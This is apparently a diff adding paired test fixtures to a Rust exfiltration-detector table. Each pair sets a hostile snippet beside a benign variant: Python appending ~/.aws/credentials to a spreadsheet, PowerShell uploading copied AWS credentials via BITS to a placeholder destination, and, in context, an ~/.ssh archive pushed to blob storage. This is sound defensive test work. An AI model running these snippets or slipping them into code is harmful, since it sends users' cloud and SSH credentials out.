@@ -1754,6 +1754,24 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
     // bitsadmin fetching a program rather than data.
     ("chat-sink", "digest.rb", "Mail.deliver do", "Mail.new do"),
     (
+        "chat-sink",
+        "digest.rb",
+        "  delivery_method :smtp, address: 'smtp.gmail.com', port: 587",
+        "  delivery_method :test",
+    ),
+    (
+        "covert-sink",
+        "report.py",
+        "blob = (Path.home() / \".aws\" / \"credentials\").read_text()\nsheet.append_row([host, blob])",
+        "blob = (Path.home() / \".aws\" / \"credentials\").read_text()\nsheet.row_values(1)",
+    ),
+    (
+        "covert-sink",
+        "Sync.ps1",
+        "Copy-Item \"$env:USERPROFILE\\.aws\\credentials\" c.txt\nStart-BitsTransfer -Source c.txt -Destination $u -TransferType Upload",
+        "Copy-Item \"$env:USERPROFILE\\.aws\\credentials\" c.txt\nStart-BitsTransfer -Source $u -Destination c.csv",
+    ),
+    (
         "covert-sink",
         "backup.py",
         "tar.add(Path.home() / \".ssh\", arcname=\"ssh\")\nBlobClient.from_blob_url(SAS).upload_blob(buf.getvalue(), overwrite=True)",
